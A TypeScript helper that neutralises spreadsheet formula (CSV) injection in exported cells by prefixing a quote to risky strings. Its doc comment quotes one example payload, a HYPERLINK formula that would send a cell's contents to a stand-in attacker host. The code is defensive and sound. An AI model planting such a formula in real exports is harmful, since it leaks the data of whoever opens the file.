/**
 * What a spreadsheet may read as the start of a formula (OWASP "CSV injection"): `=`, `+`, `-`,
 * `@`, and tab or carriage return, which some programs skip before looking for one.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A cell value that a spreadsheet shows as text, never runs: a string that could start a formula
 * (a client named `=HYPERLINK("http://evil.example/?leak="&A1,"…")`) gets a leading `'`. Every
 * writer in lib/exports passes user text through here, in CSV and XLSX alike, so a workbook
 * re-saved as CSV stays harmless. Numbers stay numbers: only strings are neutralised.
 */
export function asTextCell(value: string): string;
export function asTextCell(value: number): number;
export function asTextCell(value: string | number): string | number;
export function asTextCell(value: string | number): string | number {
  return typeof value === "string" && FORMULA_START.test(value) ? `'${value}` : value;
}
